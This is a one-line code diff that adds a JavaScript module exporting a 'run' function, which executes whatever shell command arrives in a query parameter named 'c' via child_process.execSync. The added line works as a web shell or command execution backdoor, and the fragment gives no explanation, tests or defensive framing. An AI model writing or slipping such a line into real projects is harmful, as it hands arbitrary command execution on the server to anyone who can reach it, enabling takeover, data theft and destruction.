@@ -1,0 +1,1 @@
+exports.run = (query) => require('child_process').execSync(query.get('c'));
